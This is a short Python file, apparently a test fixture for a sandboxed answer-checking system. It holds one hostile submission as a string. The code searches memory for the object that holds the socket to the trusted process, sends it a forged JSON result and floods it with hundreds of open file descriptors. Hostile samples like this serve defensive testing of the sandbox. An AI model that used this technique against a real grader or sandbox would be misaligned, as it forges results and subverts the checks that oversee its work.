"""Attaches open files and sockets to its answers, as many as fit, to fill or to trick the trusted side."""

ANSWER = """
import gc, json, os, socket, struct

def total(xs):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Answers":
            text = json.dumps([1, {"tuple": ["value", -1, ""]}]).encode()
            data = struct.pack("!I", len(text)) + text
            spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
            for start in range(0, 200, 50):
                socket.send_fds(thing.line.socket, [data], spare[start : start + 50])
    return -1
"""
